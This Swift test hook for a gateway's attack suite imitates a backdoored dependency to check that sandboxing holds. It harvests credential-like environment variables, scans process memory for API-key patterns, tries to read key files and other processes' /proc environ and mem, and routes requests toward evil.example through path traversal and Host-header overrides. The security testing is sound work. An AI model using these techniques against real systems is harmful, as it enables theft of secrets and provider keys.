#if GATEHOUSE_ATTACK_HOOK
    // Test-only: compiled into debug builds (the test build), never into release builds.
    // It plays a backdoored dependency running inside the front process, for the attack
    // suite in tests/e2e/test_attack.py, when GATEHOUSE_ATTACK=1, and prints what it
    // managed to do as one JSON line on standard output.
    import Foundation
    import GatehouseCore
    import GatehouseLink
    import NIOCore

    #if canImport(Glibc)
        import Glibc
    #endif

    enum AttackHook {
        static func runIfRequested(link: KeyholderLink, statePath: String) {
            guard ProcessInfo.processInfo.environment["GATEHOUSE_ATTACK"] == "1" else { return }
            let targets = ProcessInfo.processInfo.environment["GATEHOUSE_ATTACK_TARGETS"] ?? ""
            Task.detached {
                var report: [String: JSONValue] = [:]
                report["environment_secrets"] = .array(environmentSecrets().map(JSONValue.string))
                report["memory_key_shapes"] = .int(Int64(scanOwnMemoryForKeyShapes()))
                report["files"] = .object(tryReadFiles(statePath: statePath))
                report["connections"] = .object(tryConnections(targets: targets))
                report["keyholder"] = .object(await tryKeyholder(link: link))
                // The sandbox lets the front write nowhere but its standard streams.
                Console.line("gatehouse attack report: " + JSONValue.object(report).compactText())
            }
        }

        /// Environment variables whose name or value looks like a credential.
        static func environmentSecrets() -> [String] {
            ProcessEnvironment.sensitiveNames()
        }

        /// Counts `sk-…`/`AIza…`-shaped strings in this process's readable memory.
        static func scanOwnMemoryForKeyShapes() -> Int {
            guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8) else { return -1 }
            let memory = open("/proc/self/mem", O_RDONLY)
            guard memory >= 0 else { return -1 }
            defer { close(memory) }
            var found = 0
            let prefixes: [[UInt8]] = [Array("sk-fake-".utf8), Array("sk-proj-".utf8), Array("sk-ant-".utf8)]
            for line in maps.split(separator: "\n") {
                let fields = line.split(separator: " ", omittingEmptySubsequences: true)
                guard fields.count >= 2, fields[1].hasPrefix("r"), !(fields.count >= 6 && fields[5].hasPrefix("[v")) else { continue }
                let range = fields[0].split(separator: "-")
                guard range.count == 2, let start = UInt64(range[0], radix: 16), let end = UInt64(range[1], radix: 16),
                    end > start, end - start < 1 << 30
                else { continue }
                var buffer = [UInt8](repeating: 0, count: Int(end - start))
                let read = buffer.withUnsafeMutableBytes { pread(memory, $0.baseAddress, $0.count, off_t(start)) }
                guard read > 0 else { continue }
                for prefix in prefixes {
                    // memchr and memcmp, not a Swift loop over every byte: debug builds scan hundreds of megabytes.
                    buffer.withUnsafeBytes { region in
                        guard let base = region.baseAddress else { return }
                        var offset = 0
                        while offset < read, let hit = memchr(base + offset, Int32(prefix[0]), read - offset) {
                            let start = base.distance(to: UnsafeRawPointer(hit))
                            let matches = start + prefix.count + 8 <= read
                                && prefix.withUnsafeBytes { memcmp(base + start, $0.baseAddress!, prefix.count) == 0 }
                            if matches {
                                let tail = UnsafeRawBufferPointer(rebasing: region[(start + prefix.count)..<(start + prefix.count + 8)])
                                if tail.allSatisfy({ ($0 >= 48 && $0 <= 57) || ($0 >= 65 && $0 <= 90) || ($0 >= 97 && $0 <= 122) || $0 == 45 }) {
                                    found += 1
                                }
                            }
                            offset = start + 1
                        }
                    }
                }
            }
            return found
        }

        /// Tries to read what would give away provider keys.
        static func tryReadFiles(statePath: String) -> [String: JSONValue] {
            var results: [String: JSONValue] = [:]
            var candidates = ["\(statePath)/master.key", "\(statePath)/keys", "/proc/\(getppid())/environ"]
            if let entries = try? FileManager.default.contentsOfDirectory(atPath: "\(statePath)/keys") {
                candidates += entries.map { "\(statePath)/keys/\($0)" }
            }
            for pid in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] where Int(pid) != nil {
                if let command = try? String(contentsOfFile: "/proc/\(pid)/cmdline", encoding: .utf8), command.contains("egress") {
                    candidates += ["/proc/\(pid)/environ", "/proc/\(pid)/mem"]
                }
            }
            for path in candidates {
                let descriptor = open(path, O_RDONLY)
                if descriptor < 0 {
                    results[path] = .string("refused: \(String(cString: strerror(errno)))")
                    continue
                }
                var byte: UInt8 = 0
                let count = read(descriptor, &byte, 1)
                let error = errno
                close(descriptor)
                results[path] = .string(count >= 0 ? "READ" : "refused: \(String(cString: strerror(error)))")
            }
            return results
        }

        /// Tries TCP connections and a UDP datagram to each `host:port` target.
        static func tryConnections(targets: String) -> [String: JSONValue] {
            var results: [String: JSONValue] = [:]
            for target in targets.split(separator: ",") {
                let parts = target.split(separator: ":")
                guard parts.count == 2, let port = UInt16(parts[1]) else { continue }
                var address = sockaddr_in()
                address.sin_family = sa_family_t(AF_INET)
                address.sin_port = port.bigEndian
                inet_pton(AF_INET, String(parts[0]), &address.sin_addr)
                let tcp = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
                if tcp < 0 {
                    results["tcp \(target)"] = .string("refused: \(String(cString: strerror(errno)))")
                } else {
                    let connected = withUnsafePointer(to: &address) {
                        $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(tcp, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
                    }
                    results["tcp \(target)"] = .string(connected == 0 ? "CONNECTED" : "refused: \(String(cString: strerror(errno)))")
                    close(tcp)
                }
                let udp = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
                results["udp \(target)"] = .string(udp < 0 ? "refused: \(String(cString: strerror(errno)))" : "OPENED")
                if udp >= 0 { close(udp) }
            }
            let v6 = socket(AF_INET6, Int32(SOCK_STREAM.rawValue), 0)
            results["tcp6 socket"] = .string(v6 < 0 ? "refused: \(String(cString: strerror(errno)))" : "OPENED")
            if v6 >= 0 { close(v6) }
            return results
        }

        /// Asks the keyholder to go where it must not.
        static func tryKeyholder(link: KeyholderLink) async -> [String: JSONValue] {
            let attempts: [(String, EgressRequest)] = [
                ("unknown provider", EgressRequest(provider: "evil.example", pathSegments: ["v1", "chat", "completions"])),
                ("dot-dot path", EgressRequest(provider: "openai", pathSegments: ["..", "..", "steal"])),
                (
                    "host override", EgressRequest(
                        provider: "openai", method: "GET", pathSegments: ["models"],
                        headers: [("host", "evil.example"), ("x-forwarded-host", "evil.example")])
                ),
                (
                    "caller base url", EgressRequest(
                        provider: "openai", method: "GET", pathSegments: ["https://evil.example", "v1"])
                ),
            ]
            var results: [String: JSONValue] = [:]
            for (name, request) in attempts {
                do {
                    let response = try await link.send(request)
                    let body = try await response.body.collect(upTo: 1 << 20)
                    results[name] = .object(["status": .int(Int64(response.status)), "bytes": .int(Int64(body.readableBytes))])
                } catch let error as GatewayError {
                    results[name] = .object(["refused": .string(error.code)])
                } catch {
                    results[name] = .object(["refused": .string("\(type(of: error))")])
                }
            }
            return results
        }
    }
#endif
